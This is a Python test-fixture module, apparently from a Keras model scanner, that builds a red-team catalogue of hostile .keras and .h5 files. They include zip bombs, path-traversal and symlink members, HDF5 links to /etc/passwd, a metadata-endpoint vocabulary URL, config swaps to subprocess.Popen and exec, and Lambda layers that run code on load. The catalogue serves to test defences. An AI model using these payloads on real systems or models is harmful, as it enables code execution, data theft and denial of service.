"""A red team's catalogue: hostile model files, one builder per class of attack.

Used by ``tests/test_hostile.py`` (each file through the real CLI) and runnable on its own to
measure what ``kerasaudit inspect`` does with each, as a separate process:

    python tests/hostile_files.py [--big] [NAME ...]
    python tests/hostile_files.py --cost [REPEATS]

prints exit code, wall time, peak RSS (``ru_maxrss`` of the process and its children, and the
sampled sum over the process tree), whether anything was left in its TMPDIR and whether a
payload's marker file appeared. ``--big`` builds the zip bomb at the size the issue measured
(24 members of 64 MiB of zeros). ``--cost`` measures what the sandbox adds to
``kerasaudit inspect`` on the shipped sample model (alternating runs with and without it).

Every builder starts from a benign base model (``build_base``: two convolutions, a Flatten and
a Dense, saved as .keras and as Keras 3 .h5) and changes one thing.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import h5py
import numpy as np

MARKER_NAME = "PWNED"


@dataclass(frozen=True)
class Base:
    keras: Path
    h5: Path
    directory: Path


@dataclass(frozen=True)
class Hostile:
    name: str
    path: Path
    expect: frozenset[int]  # acceptable exit codes
    hint: str = ""  # a word the one-line message must contain
    marker: Path | None = None  # a payload would create this file
    env: dict[str, str] = field(default_factory=dict)
    args: tuple[str, ...] = ()


Builder = Callable[[Base, Path, bool], Hostile]
CATALOGUE: dict[str, Builder] = {}
REFUSED = frozenset({3})
BAD = frozenset({2})


def hostile(name: str) -> Callable[[Builder], Builder]:
    def register(builder: Builder) -> Builder:
        CATALOGUE[name] = builder
        return builder

    return register


# --------------------------------------------------------------------------------------------
# Base model and archive helpers
# --------------------------------------------------------------------------------------------


def build_base(directory: Path) -> Base:
    from kerasaudit import _tf

    keras = _tf.keras()
    keras.utils.set_random_seed(0)
    inputs = keras.Input((12, 12, 1), name="image")
    x = keras.layers.Conv2D(8, 3, activation="relu", name="conv1")(inputs)
    x = keras.layers.Conv2D(8, 3, activation="relu", name="conv2")(x)
    x = keras.layers.Flatten(name="flatten")(x)
    outputs = keras.layers.Dense(3, activation="softmax", name="probs")(x)
    model = keras.Model(inputs, outputs, name="base_cnn")
    directory.mkdir(parents=True, exist_ok=True)
    base = Base(directory / "base.keras", directory / "base.h5", directory)
    model.save(base.keras)
    model.save(base.h5)
    return base


def members(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(
    path: Path, items: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED
) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in items:
            archive.writestr(name, data)
    return path


def config_of(path: Path) -> dict[str, Any]:
    return dict(json.loads(dict(members(path))["config.json"]))


def with_config(base: Path, dst: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    config = config_of(base)
    change(config)
    items = [
        (name, json.dumps(config).encode() if name == "config.json" else data)
        for name, data in members(base)
    ]
    return write_zip(dst, items)


def layers_of(config: dict[str, Any]) -> list[dict[str, Any]]:
    return list(config["config"]["layers"])


def layer(config: dict[str, Any], name: str) -> dict[str, Any]:
    for item in layers_of(config):
        if item["config"]["name"] == name:
            return item
    raise KeyError(name)


def lambda_model_files(out: Path, marker: Path) -> tuple[Path, Path]:
    """A Keras 3 .keras and a tf-keras .h5 whose Lambda writes ``marker`` when rebuilt."""
    from kerasaudit import _tf

    keras = _tf.keras()
    target = str(marker)
    inputs = keras.Input((4,))
    evil = keras.layers.Lambda(
        lambda x: (__import__("pathlib").Path(target).write_text("pwned"), x)[1], name="evil"
    )
    keras.Model(inputs, keras.layers.Dense(2)(evil(inputs))).save(out / "lambda.keras")
    import tf_keras as k2

    k_inputs = k2.Input((4,))
    k_evil = k2.layers.Lambda(
        lambda x: (__import__("pathlib").Path(target).write_text("pwned"), x)[1], name="evil"
    )
    legacy = k2.Model(k_inputs, k2.layers.Dense(2)(k_evil(k_inputs)))
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        legacy.save(out / "lambda_k2.h5")
    marker.unlink(missing_ok=True)
    return out / "lambda.keras", out / "lambda_k2.h5"


# --------------------------------------------------------------------------------------------
# Archive-level attacks (.keras)
# --------------------------------------------------------------------------------------------


@hostile("zip-bomb-many-members")
def _zip_bomb_many(base: Base, out: Path, big: bool) -> Hostile:
    """24 members of zeros (64 MiB each with --big, 4 MiB in tests) deflated to almost
    nothing: the issue's 1.5 GB extraction."""
    size = (64 if big else 4) << 20
    path = out / "zip_bomb.keras"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members(base.keras):
            archive.writestr(name, data)
        zeros = bytes(size)
        for index in range(24):
            archive.writestr(f"assets/blob{index}", zeros, zipfile.ZIP_DEFLATED, 9)
    return Hostile("zip-bomb-many-members", path, REFUSED, "inflate")


@hostile("zip-bomb-weights-member")
def _zip_bomb_weights(base: Base, out: Path, big: bool) -> Hostile:
    """model.weights.h5 padded with 256 MiB of zeros, deflated (a single inflating member)."""
    items = dict(members(base.keras))
    weights = items["model.weights.h5"] + bytes(256 << 20)
    path = out / "zip_bomb_weights.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", items["metadata.json"])
        archive.writestr("config.json", items["config.json"])
        archive.writestr("model.weights.h5", weights, zipfile.ZIP_DEFLATED, 9)
    return Hostile("zip-bomb-weights-member", path, REFUSED, "inflate")


@hostile("zip-many-members")
def _zip_many(base: Base, out: Path, big: bool) -> Hostile:
    items = members(base.keras) + [(f"assets/{i}", b"") for i in range(5_000)]
    return Hostile("zip-many-members", write_zip(out / "many.keras", items), REFUSED, "members")


@hostile("zip-path-traversal")
def _zip_traversal(base: Base, out: Path, big: bool) -> Hostile:
    """A member named ../../../<out>/PWNED: Keras' extraction of assets would write it."""
    marker = out / MARKER_NAME
    depth = "../" * (len(Path(tempfile.gettempdir()).resolve().parts) + 4)
    evil = f"{depth}{str(marker).lstrip('/')}"
    items = [*members(base.keras), (evil, b"pwned")]
    path = write_zip(out / "traversal.keras", items)
    return Hostile("zip-path-traversal", path, REFUSED, "outside", marker)


@hostile("zip-absolute-member")
def _zip_absolute(base: Base, out: Path, big: bool) -> Hostile:
    marker = out / MARKER_NAME
    path = write_zip(out / "absolute.keras", [*members(base.keras), (str(marker), b"pwned")])
    return Hostile("zip-absolute-member", path, REFUSED, "absolute", marker)


@hostile("zip-symlink-member")
def _zip_symlink(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "symlink.keras"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members(base.keras):
            archive.writestr(name, data)
        info = zipfile.ZipInfo("assets/passwd")
        info.external_attr = (0o120777 << 16) | 0x20
        archive.writestr(info, "/etc/passwd")
    return Hostile("zip-symlink-member", path, REFUSED, "symlink")


@hostile("zip-unexpected-member")
def _zip_unexpected(base: Base, out: Path, big: bool) -> Hostile:
    items = [*members(base.keras), ("payload.py", b"import os; os.system('id')")]
    return Hostile("zip-unexpected-member", write_zip(out / "extra.keras", items), REFUSED)


@hostile("zip-stray-assets")
def _zip_stray_assets(base: Base, out: Path, big: bool) -> Hostile:
    """Assets in a model none of whose layers saves any: Keras would extract every member of
    the archive to disk (8 MiB of incompressible bytes here; any size under the caps)."""
    blob = np.random.default_rng(0).bytes(8 << 20)
    items = [*members(base.keras), ("assets/blob.bin", blob)]
    return Hostile("zip-stray-assets", write_zip(out / "assets.keras", items), REFUSED, "asset")


@hostile("zip-npz-weights")
def _zip_npz(base: Base, out: Path, big: bool) -> Hostile:
    """Weights as model.weights.npz (Keras reads it; nothing weighed it)."""
    buffer = io.BytesIO()
    np.savez(buffer, huge=np.zeros(1, "float32"))
    items = [(n, d) for n, d in members(base.keras) if n != "model.weights.h5"]
    path = write_zip(out / "npz.keras", [*items, ("model.weights.npz", buffer.getvalue())])
    return Hostile("zip-npz-weights", path, REFUSED, "npz")


@hostile("zip-duplicate-config")
def _zip_duplicate(base: Base, out: Path, big: bool) -> Hostile:
    """Two config.json members: one for the checker, one for the loader?"""
    items = members(base.keras)
    config = config_of(base.keras)
    layer(config, "probs")["class_name"] = "Lambda"
    path = out / "duplicate.keras"
    with zipfile.ZipFile(path, "w") as archive, __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")  # "Duplicate name"
        for name, data in items:
            archive.writestr(name, data)
        archive.writestr("config.json", json.dumps(config))
    return Hostile("zip-duplicate-config", path, REFUSED, "two archive members")


def _corrupt_member_data(
    base: Base, path: Path, name: str, mutate: Callable[[bytes], bytes]
) -> None:
    raw = bytearray(base.keras.read_bytes())
    with zipfile.ZipFile(base.keras) as archive:
        info = archive.getinfo(name)
    offset = info.header_offset
    name_len, extra_len = struct.unpack("<HH", raw[offset + 26 : offset + 30])
    start = offset + 30 + name_len + extra_len
    data = bytes(raw[start : start + info.compress_size])
    new = mutate(data)
    raw[start : start + len(new)] = new
    path.write_bytes(bytes(raw))


@hostile("zip-crc-corrupt")
def _zip_crc(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "crc.keras"

    def flip(data: bytes) -> bytes:
        middle = len(data) // 2
        return data[:middle] + bytes([data[middle] ^ 0xFF]) + data[middle + 1 :]

    _corrupt_member_data(base, path, "model.weights.h5", flip)
    return Hostile("zip-crc-corrupt", path, BAD, "CRC")


@hostile("zip-truncated")
def _zip_truncated(base: Base, out: Path, big: bool) -> Hostile:
    data = base.keras.read_bytes()
    path = out / "truncated.keras"
    path.write_bytes(data[: len(data) * 2 // 3])
    return Hostile("zip-truncated", path, BAD, "corrupt")


@hostile("zip-truncated-member")
def _zip_truncated_member(base: Base, out: Path, big: bool) -> Hostile:
    """A deflated member whose stream ends early (the central directory is intact)."""
    items = members(base.keras)
    path = out / "short_member.keras"
    write_zip(path, items, zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("model.weights.h5")
    raw = bytearray(path.read_bytes())
    name_len, extra_len = struct.unpack(
        "<HH", raw[info.header_offset + 26 : info.header_offset + 30]
    )
    start = info.header_offset + 30 + name_len + extra_len
    # Zero the second half of the compressed stream: inflate stops early or fails.
    half = start + info.compress_size // 2
    raw[half : start + info.compress_size] = bytes(start + info.compress_size - half)
    path.write_bytes(bytes(raw))
    return Hostile("zip-truncated-member", path, BAD, "corrupt")


def _patch_central(path: Path, name: str, patch: Callable[[bytearray, int, int], None]) -> None:
    """Apply ``patch(raw, local_header_offset, central_header_offset)`` for member ``name``."""
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(name)
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack("<H", raw[central + 28 : central + 30])[0]
        if raw[central + 46 : central + 46 + name_len].decode() == name:
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    patch(raw, info.header_offset, central)
    path.write_bytes(bytes(raw))


@hostile("zip-unknown-compression")
def _zip_unknown_compression(base: Base, out: Path, big: bool) -> Hostile:
    path = write_zip(out / "method99.keras", members(base.keras))

    def method_99(raw: bytearray, local: int, central: int) -> None:
        raw[local + 8 : local + 10] = struct.pack("<H", 99)
        raw[central + 10 : central + 12] = struct.pack("<H", 99)

    _patch_central(path, "model.weights.h5", method_99)
    return Hostile("zip-unknown-compression", path, BAD, "compression")


@hostile("zip-encrypted-member")
def _zip_encrypted(base: Base, out: Path, big: bool) -> Hostile:
    path = write_zip(out / "encrypted.keras", members(base.keras))

    def encrypt_flag(raw: bytearray, local: int, central: int) -> None:
        raw[local + 6] |= 0x1
        raw[central + 8] |= 0x1

    _patch_central(path, "config.json", encrypt_flag)
    return Hostile("zip-encrypted-member", path, BAD, "encrypted")


@hostile("zip-garbage-directory")
def _zip_garbage(base: Base, out: Path, big: bool) -> Hostile:
    data = bytearray(base.keras.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 16 : end + 20] = struct.pack("<I", 0x7FFFFFF0)  # central directory offset
    path = out / "garbage_cd.keras"
    path.write_bytes(bytes(data))
    return Hostile("zip-garbage-directory", path, BAD, "corrupt")


# --------------------------------------------------------------------------------------------
# JSON documents
# --------------------------------------------------------------------------------------------


@hostile("metadata-deeply-nested")
def _metadata_deep(base: Base, out: Path, big: bool) -> Hostile:
    items = [
        (n, b"[" * 100_000 + b"]" * 100_000 if n == "metadata.json" else d)
        for n, d in members(base.keras)
    ]
    return Hostile("metadata-deeply-nested", write_zip(out / "deep_meta.keras", items), REFUSED)


@hostile("config-deeply-nested")
def _config_deep(base: Base, out: Path, big: bool) -> Hostile:
    items = [
        (n, b'{"a":' * 5_000 + b"1" + b"}" * 5_000 if n == "config.json" else d)
        for n, d in members(base.keras)
    ]
    return Hostile("config-deeply-nested", write_zip(out / "deep.keras", items), REFUSED, "deep")


@hostile("config-oversized")
def _config_big(base: Base, out: Path, big: bool) -> Hostile:
    items = [(n, d) for n, d in members(base.keras) if n != "config.json"]
    items.append(("config.json", b"{" + b" " * (48 << 20) + b"}"))
    path = write_zip(out / "big_config.keras", items, zipfile.ZIP_DEFLATED)
    return Hostile("config-oversized", path, REFUSED, "bytes")


@hostile("config-many-objects")
def _config_objects(base: Base, out: Path, big: bool) -> Hostile:
    """Four million empty objects in 8 MB of JSON: gigabytes of Python dicts if parsed."""
    items = [(n, d) for n, d in members(base.keras) if n != "config.json"]
    items.append(("config.json", b"[" + b"{}," * 4_000_000 + b"{}]"))
    path = write_zip(out / "objects.keras", items, zipfile.ZIP_DEFLATED)
    return Hostile("config-many-objects", path, REFUSED, "objects")


@hostile("config-many-calls")
def _config_calls(base: Base, out: Path, big: bool) -> Hostile:
    """One small layer called 20,000 times: Keras would build every call."""

    def calls(config: dict[str, Any]) -> None:
        probs = layer(config, "probs")
        node = probs["inbound_nodes"][0]
        probs["inbound_nodes"] = [node] * 20_000

    return Hostile(
        "config-many-calls", with_config(base.keras, out / "calls.keras", calls), REFUSED, "calls"
    )


@hostile("config-many-layers")
def _config_layers(base: Base, out: Path, big: bool) -> Hostile:
    def many(config: dict[str, Any]) -> None:
        dense = layer(config, "probs")
        extra = []
        for index in range(3_000):
            clone = json.loads(json.dumps(dense))
            clone["config"]["name"] = clone["name"] = f"d{index}"
            extra.append(clone)
        config["config"]["layers"].extend(extra)

    return Hostile(
        "config-many-layers", with_config(base.keras, out / "layers.keras", many), REFUSED, "layers"
    )


# --------------------------------------------------------------------------------------------
# Resource bombs in the config (allocations at build time)
# --------------------------------------------------------------------------------------------


@hostile("dense-1e8-no-weights")
def _dense_no_weights(base: Base, out: Path, big: bool) -> Hostile:
    """The issue's Dense(units=10**8) in a .keras with no model.weights.h5."""
    config = config_of(base.keras)
    layer(config, "probs")["config"]["units"] = 10**8
    items = [
        (n, json.dumps(config).encode() if n == "config.json" else d)
        for n, d in members(base.keras)
        if n != "model.weights.h5"
    ]
    return Hostile("dense-1e8-no-weights", write_zip(out / "dense_noweights.keras", items), REFUSED)


@hostile("dense-1e8")
def _dense_huge(base: Base, out: Path, big: bool) -> Hostile:
    def huge(config: dict[str, Any]) -> None:
        layer(config, "probs")["config"]["units"] = 10**8

    return Hostile(
        "dense-1e8", with_config(base.keras, out / "dense.keras", huge), REFUSED, "declares"
    )


@hostile("convs-40000-filters-no-build-config")
def _wide_convs(base: Base, out: Path, big: bool) -> Hostile:
    """The issue's two convolutions widened to 40,000 filters, build_config removed (conv2's
    kernel would be 3×3×40,000×40,000 floats)."""

    def widen(config: dict[str, Any]) -> None:
        for item in layers_of(config):
            item.pop("build_config", None)
            if item["class_name"] == "Conv2D":
                item["config"]["filters"] = 40_000

    path = with_config(base.keras, out / "wide_convs.keras", widen)
    return Hostile("convs-40000-filters-no-build-config", path, REFUSED, "declares")


@hostile("input-inflated-flatten-dense")
def _inflated_input(base: Base, out: Path, big: bool) -> Hostile:
    """A 12×12 input declared 1200×1200 and build_config removed: Flatten→Dense grows 10^4×."""

    def inflate(config: dict[str, Any]) -> None:
        for item in layers_of(config):
            item.pop("build_config", None)
            if item["class_name"] == "InputLayer":
                item["config"]["batch_shape"] = [None, 1200, 1200, 1]

    path = with_config(base.keras, out / "inflated_input.keras", inflate)
    return Hostile("input-inflated-flatten-dense", path, REFUSED, "declares")


@hostile("embedding-huge")
def _embedding(base: Base, out: Path, big: bool) -> Hostile:
    def embed(config: dict[str, Any]) -> None:
        probs = layer(config, "probs")
        probs["class_name"] = "Embedding"
        probs["config"] = {"name": "probs", "input_dim": 2_000_000_000, "output_dim": 8}

    path = with_config(base.keras, out / "embedding.keras", embed)
    return Hostile("embedding-huge", path, REFUSED, "declares")


@hostile("h5-dense-inflated")
def _h5_dense(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "dense_inflated.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        layer(config, "probs")["config"]["units"] = 50_000_000
        f.attrs["model_config"] = json.dumps(config)
    return Hostile("h5-dense-inflated", path, REFUSED, "declares")


# --------------------------------------------------------------------------------------------
# HDF5 (top-level .h5 and the weights inside .keras)
# --------------------------------------------------------------------------------------------


def _edit_weights(base: Base, dst: Path, change: Callable[[h5py.File], None]) -> Path:
    items = members(base.keras)
    weights = dict(items)["model.weights.h5"]
    with tempfile.TemporaryDirectory() as tmp:
        h5 = Path(tmp) / "w.h5"
        h5.write_bytes(weights)
        with h5py.File(h5, "r+") as f:
            change(f)
        new = h5.read_bytes()
    return write_zip(dst, [(n, new if n == "model.weights.h5" else d) for n, d in items])


@hostile("hdf5-dataset-shape-bomb")
def _dataset_bomb(base: Base, out: Path, big: bool) -> Hostile:
    """CVE-2026-0897 class: a weights dataset declaring 8 GB that stores nothing."""

    def bomb(f: h5py.File) -> None:
        f.create_dataset("layers/dense/vars/2", shape=(2**31,), dtype="float32")

    path = _edit_weights(base, out / "dataset_bomb.keras", bomb)
    return Hostile("hdf5-dataset-shape-bomb", path, REFUSED, "declare")


@hostile("hdf5-chunk-bomb")
def _chunk_bomb(base: Base, out: Path, big: bool) -> Hostile:
    """One element in a 1 GiB gzip chunk: reading it inflates the whole chunk."""
    path = out / "chunk_bomb.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        f.create_dataset(
            "model_weights/extra",
            shape=(1,),
            maxshape=(None,),
            chunks=(2**28,),
            dtype="float32",
            compression="gzip",
        )
    return Hostile("hdf5-chunk-bomb", path, REFUSED, "chunks")


@hostile("hdf5-vlen-attribute-40mb")
def _vlen_attribute(base: Base, out: Path, big: bool) -> Hostile:
    """A 40 MB variable-length string attribute (get_storage_size() says 16 bytes)."""
    path = out / "vlen_attr.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        f.attrs["training_config"] = "x" * (40 << 20)
    return Hostile("hdf5-vlen-attribute-40mb", path, REFUSED, "variable-length")


@hostile("hdf5-fixed-attribute-40mb")
def _fixed_attribute(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "fixed_attr.h5"
    shutil.copyfile(base.h5, path)
    # Attributes over 64 KiB need dense attribute storage: a group with a v2 object header.
    with h5py.File(path, "r+", libver="latest") as f:
        f.create_group("model_weights/big").attrs.create("weight_names", np.zeros(40 << 20, "u1"))
    return Hostile("hdf5-fixed-attribute-40mb", path, REFUSED, "attribute")


@hostile("hdf5-external-link")
def _external_link(base: Base, out: Path, big: bool) -> Hostile:
    def link(f: h5py.File) -> None:
        f["layers/stolen"] = h5py.ExternalLink("/etc/passwd", "/data")

    return Hostile(
        "hdf5-external-link", _edit_weights(base, out / "extlink.keras", link), REFUSED, "link"
    )


@hostile("hdf5-soft-link")
def _soft_link(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "softlink.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        f["model_weights/alias"] = h5py.SoftLink("/model_weights")
    return Hostile("hdf5-soft-link", path, REFUSED, "soft link")


@hostile("hdf5-virtual-dataset")
def _virtual(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "virtual.h5"
    shutil.copyfile(base.h5, path)
    layout = h5py.VirtualLayout(shape=(10,), dtype="f8")
    layout[:] = h5py.VirtualSource("/etc/secret.h5", "data", shape=(10,))
    with h5py.File(path, "r+") as f:
        f["model_weights"].create_virtual_dataset("vds", layout)
    return Hostile("hdf5-virtual-dataset", path, REFUSED, "virtual")


@hostile("hdf5-external-storage")
def _external_storage(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "external.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        f["model_weights"].create_dataset(
            "ext", shape=(16,), dtype="u1", external=[("/etc/passwd", 0, 16)]
        )
    return Hostile("hdf5-external-storage", path, REFUSED, "external")


@hostile("hdf5-plugin-filter")
def _plugin_filter(base: Base, out: Path, big: bool) -> Hostile:
    from h5py import h5d, h5p, h5s, h5t, h5z

    path = out / "plugin.h5"
    shutil.copyfile(base.h5, path)
    with h5py.File(path, "r+") as f:
        plist = h5p.create(h5p.DATASET_CREATE)
        plist.set_chunk((4,))
        plist.set_filter(32001, h5z.FLAG_OPTIONAL)  # blosc: a plugin HDF5 would dlopen
        space = h5s.create_simple((4,))
        h5d.create(f["model_weights"].id, b"blosc", h5t.NATIVE_FLOAT, space, dcpl=plist)
    return Hostile("hdf5-plugin-filter", path, REFUSED, "plugin")


@hostile("h5-truncated")
def _h5_truncated(base: Base, out: Path, big: bool) -> Hostile:
    data = base.h5.read_bytes()
    path = out / "truncated.h5"
    path.write_bytes(data[: len(data) // 2])
    return Hostile("h5-truncated", path, BAD, "HDF5")


@hostile("h5-corrupt-superblock")
def _h5_corrupt(base: Base, out: Path, big: bool) -> Hostile:
    data = bytearray(base.h5.read_bytes())
    data[8:64] = bytes(range(56))
    path = out / "superblock.h5"
    path.write_bytes(bytes(data))
    return Hostile("h5-corrupt-superblock", path, BAD, "HDF5")


@hostile("h5-weights-only")
def _h5_weights_only(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "only.weights.h5"
    path.write_bytes(dict(members(base.keras))["model.weights.h5"])
    return Hostile("h5-weights-only", path, BAD, "model config")


# --------------------------------------------------------------------------------------------
# Code execution (the Keras safe_mode CVE classes) and the allowlist
# --------------------------------------------------------------------------------------------


def _class_swap(name: str, class_name: str, module: str, extra: dict[str, Any]) -> Builder:
    def build(base: Base, out: Path, big: bool) -> Hostile:
        def swap(config: dict[str, Any]) -> None:
            probs = layer(config, "probs")
            probs.update({"class_name": class_name, "module": module, "registered_name": None})
            probs["config"].update(extra)

        path = with_config(base.keras, out / f"{name}.keras", swap)
        return Hostile(name, path, REFUSED, "probs")

    return build


for _name, _cls, _module, _extra in [
    # CVE-2026-1462: TFSMLayer loads an attacker's SavedModel despite safe_mode.
    ("cve-2026-1462-tfsmlayer", "TFSMLayer", "keras.layers", {"filepath": "/tmp/evil_sm"}),
    ("torch-module-wrapper", "TorchModuleWrapper", "keras.layers", {}),
    ("jax-layer", "JaxLayer", "keras.layers", {}),
    ("flax-layer", "FlaxLayer", "keras.layers", {}),
    ("tfoplambda", "TFOpLambda", "keras.layers", {"function": "os.system"}),
    # CVE-2025-1550: arbitrary module and class named in config.json.
    ("cve-2025-1550-module", "Popen", "subprocess", {"args": ["id"]}),
    ("module-outside-keras", "Dense", "os", {}),
]:
    CATALOGUE[_name] = _class_swap(_name, _cls, _module, _extra)


def _function_activation(name: str, module: str, function: str) -> Builder:
    def build(base: Base, out: Path, big: bool) -> Hostile:
        def point(config: dict[str, Any]) -> None:
            layer(config, "conv2")["config"]["activation"] = {
                "module": module,
                "class_name": "function",
                "config": function,
                "registered_name": "function",
            }

        path = with_config(base.keras, out / f"{name}.keras", point)
        return Hostile(name, path, REFUSED, "conv2")

    return build


for _name, _module, _function in [
    ("cve-2025-8747-get-file", "keras.utils", "get_file"),  # downloads / writes files
    ("cve-2025-9906-enable-unsafe", "keras.config", "enable_unsafe_deserialization"),
    ("set-floatx", "keras.config", "set_floatx"),
    ("builtins-exec", "builtins", "exec"),
]:
    CATALOGUE[_name] = _function_activation(_name, _module, _function)


@hostile("cve-2024-3660-lambda-keras")
def _lambda_keras(base: Base, out: Path, big: bool) -> Hostile:
    marker = out / MARKER_NAME
    keras_path, _ = lambda_model_files(out, marker)
    return Hostile("cve-2024-3660-lambda-keras", keras_path, REFUSED, "Lambda", marker)


@hostile("cve-2025-9905-lambda-h5")
def _lambda_h5(base: Base, out: Path, big: bool) -> Hostile:
    marker = out / MARKER_NAME
    _, h5_path = lambda_model_files(out, marker)
    return Hostile("cve-2025-9905-lambda-h5", h5_path, REFUSED, "Lambda", marker)


@hostile("cve-2025-9906-lambda-load-model")
def _lambda_load_model(base: Base, out: Path, big: bool) -> Hostile:
    """The published chain: a Lambda calling keras.models.load_model(safe_mode=False)."""

    def chain(config: dict[str, Any]) -> None:
        probs = layer(config, "probs")
        probs.update({"class_name": "Lambda", "module": "keras.layers", "registered_name": None})
        probs["config"] = {
            "name": "probs",
            "function": {
                "module": "keras.models",
                "class_name": "function",
                "config": "load_model",
                "registered_name": "function",
            },
            "arguments": {"safe_mode": False},
        }

    path = with_config(base.keras, out / "lambda_load_model.keras", chain)
    return Hostile("cve-2025-9906-lambda-load-model", path, REFUSED, "Lambda")


@hostile("cve-2025-12058-vocabulary-file")
def _vocabulary(base: Base, out: Path, big: bool) -> Hostile:
    def lookup(config: dict[str, Any]) -> None:
        probs = layer(config, "probs")
        probs.update({"class_name": "StringLookup", "module": "keras.layers"})
        probs["config"] = {"name": "probs", "vocabulary": "/etc/passwd"}

    path = with_config(base.keras, out / "vocab_file.keras", lookup)
    return Hostile("cve-2025-12058-vocabulary-file", path, REFUSED, "path-like")


@hostile("cve-2025-12058-vocabulary-url")
def _vocabulary_url(base: Base, out: Path, big: bool) -> Hostile:
    def lookup(config: dict[str, Any]) -> None:
        probs = layer(config, "probs")
        probs.update({"class_name": "StringLookup", "module": "keras.layers"})
        probs["config"] = {"name": "probs", "vocabulary": "http://169.254.169.254/latest"}

    path = with_config(base.keras, out / "vocab_url.keras", lookup)
    return Hostile("cve-2025-12058-vocabulary-url", path, REFUSED, "path-like")


CUSTOM_LAYER = (
    "import keras\n\n"
    "@keras.saving.register_keras_serializable(package='tests')\n"
    "class Scale(keras.layers.Layer):\n"
    "    def call(self, x):\n"
    "        return x * 2.0\n"
)


@hostile("spoofed-registered-name")
def _spoofed(base: Base, out: Path, big: bool) -> Hostile:
    """A built-in function smuggled under the registered name of the user's custom layer."""
    module_file = out / "my_layers.py"
    module_file.write_text(CUSTOM_LAYER)

    def spoof(config: dict[str, Any]) -> None:
        layer(config, "conv2")["config"]["activation"] = {
            "module": "keras.config",
            "class_name": "function",
            "config": "set_floatx",
            "registered_name": "tests>Scale",
        }

    path = with_config(base.keras, out / "spoofed.keras", spoof)
    return Hostile(
        "spoofed-registered-name",
        path,
        REFUSED,
        "set_floatx",
        args=("--custom-objects", str(module_file)),
    )


# --------------------------------------------------------------------------------------------
# Polyglots and odd paths
# --------------------------------------------------------------------------------------------


@hostile("polyglot-h5-with-lambda-zip-appended")
def _polyglot_h5(base: Base, out: Path, big: bool) -> Hostile:
    """A benign .h5 with a Lambda .keras appended: zipfile finds the archive from the end,
    h5py the HDF5 from the start. Whatever loads it must be what was checked."""
    marker = out / MARKER_NAME
    lambda_keras, _ = lambda_model_files(out, marker)
    path = out / "polyglot.h5"
    path.write_bytes(base.h5.read_bytes() + lambda_keras.read_bytes())
    return Hostile("polyglot-h5-with-lambda-zip-appended", path, REFUSED, "polyglot", marker)


@hostile("polyglot-zip-over-lambda-h5")
def _polyglot_zip(base: Base, out: Path, big: bool) -> Hostile:
    """A Lambda .h5 behind a 512-byte HDF5 user block that starts with a zip signature, with a
    benign .keras appended: the bytes say zip at offset 0 and HDF5 at offset 512."""
    marker = out / MARKER_NAME
    _, lambda_h5 = lambda_model_files(out, marker)
    weights_h5 = out / "ub.h5"
    with h5py.File(weights_h5, "w", userblock_size=512) as dst, h5py.File(lambda_h5) as src:
        for key, value in src.attrs.items():
            dst.attrs[key] = value
        for key in src:
            src.copy(src[key], dst, name=key)
    raw = bytearray(weights_h5.read_bytes())
    raw[:4] = b"PK\x03\x04"
    path = out / "polyglot.keras"
    path.write_bytes(bytes(raw) + base.keras.read_bytes())
    return Hostile("polyglot-zip-over-lambda-h5", path, REFUSED, "polyglot", marker)


@hostile("fifo-as-model")
def _fifo(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "model.keras.fifo"
    os.mkfifo(path)
    return Hostile("fifo-as-model", path, BAD, "regular file")


@hostile("savedmodel-with-fifo")
def _savedmodel_fifo(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "sm_fifo"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(b"")
    os.mkfifo(path / "variables" / "variables.data-00000-of-00001")
    return Hostile("savedmodel-with-fifo", path, BAD, "FIFO")


@hostile("savedmodel-deep-directories")
def _savedmodel_deep(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "sm_deep"
    path.mkdir()
    (path / "saved_model.pb").write_bytes(b"")
    deep = path
    for _ in range(40):
        deep = deep / "d"
    deep.mkdir(parents=True)
    return Hostile("savedmodel-deep-directories", path, BAD, "nest")


# --------------------------------------------------------------------------------------------
# What the static checks let through, the sandbox bounds
# --------------------------------------------------------------------------------------------


@hostile("sandbox-memory-limit")
def _sandbox_memory(base: Base, out: Path, big: bool) -> Hostile:
    """Stands in for a bomb the static checks miss: a model that honestly stores 25 MB of
    weights, loaded under a 16 MiB address-space budget. The canary fails, the caller
    refuses (exit 3) and never allocates."""
    from kerasaudit import _tf

    keras = _tf.keras()
    inputs = keras.Input((3072,))
    model = keras.Model(inputs, keras.layers.Dense(2048, name="wide")(inputs))
